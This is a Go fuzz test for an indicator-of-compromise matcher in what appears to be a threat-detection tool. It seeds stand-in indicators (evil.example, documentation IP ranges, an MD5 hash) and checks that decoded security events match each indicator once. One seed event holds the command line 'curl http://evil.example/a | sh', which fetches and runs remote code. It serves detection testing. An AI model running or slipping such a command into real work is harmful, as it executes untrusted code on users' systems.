package match_test

import (
	"net/netip"
	"strings"
	"testing"
	"time"

	"noroshi/analyse/match"
	"noroshi/event"
	"noroshi/ident"
	"noroshi/indicator"
	"noroshi/observable"
)

// FuzzMatch shows the live set what a node may say in an event: what it finds is
// there, and each indicator is found once.
func FuzzMatch(f *testing.F) {
	s := match.New()
	for i, value := range []string{"evil.example", "x.evil.example", "192.0.2.1", "198.51.100.0/24", "2001:db8::/32", "http://evil.example/a", "d41d8cd98f00b204e9800998ecf8427e"} {
		o, err := observable.Parse(value)
		if err != nil {
			f.Fatal(err)
		}
		s.Put(indicator.Indicator{ID: ident.ID("ind_" + string(rune('a'+i))), Observable: o, State: indicator.Active, ValidUntil: time.Unix(1e10, 0)})
	}
	head := `{"class_uid":4003,"category_uid":4,"activity_id":6,"type_uid":400306,"severity_id":1,"time":1,"metadata":{"version":"1.8.0","uid":"nod_a.1","sequence":1,"product":{"name":"","vendor_name":""},"tenant_uid":"org_a","reporter":{"uid":"nod_a"}},`
	f.Add(head + `"query":{"hostname":"a.X.Evil.Example."},"answers":[{"rdata":"192.0.2.1"},{"rdata":"mx.evil.example."}]}`)
	f.Add(head + `"query":{"hostname":"...."},"src_endpoint":{"ip":"::ffff:198.51.100.7","port":1},"answers":[{"rdata":"` + strings.Repeat("a.", 400) + `"}]}`)
	f.Add(head + `"process":{"pid":1,"cmd_line":"curl http://evil.example/a | sh","file":{"name":"x","hashes":[{"algorithm_id":1,"value":"D41D8CD98F00B204E9800998ECF8427E"}]}}}`)
	f.Fuzz(func(t *testing.T, line string) {
		e, err := event.DecodeJSON([]byte(line))
		if err != nil {
			return
		}
		seen := map[ident.ID]bool{}
		for _, h := range s.Match(e) {
			if seen[h.Indicator.ID] {
				t.Errorf("%s is found twice", h.Indicator.ID)
			}
			seen[h.Indicator.ID] = true
			if !covers(h.Indicator.Observable, h.Value) {
				t.Errorf("%q in %s is taken for %+v", h.Value, h.Field, h.Indicator.Observable)
			}
		}
	})
}

// covers is the slow, obvious reference.
func covers(o observable.Observable, value string) bool {
	value = strings.ToLower(strings.TrimSuffix(value, "."))
	switch o.Kind {
	case observable.Domain:
		return value == o.Value || strings.HasSuffix(value, "."+o.Value)
	case observable.CIDR:
		a, err := netip.ParseAddr(value)
		return err == nil && netip.MustParsePrefix(o.Value).Contains(a)
	}
	return strings.EqualFold(value, o.Value)
}
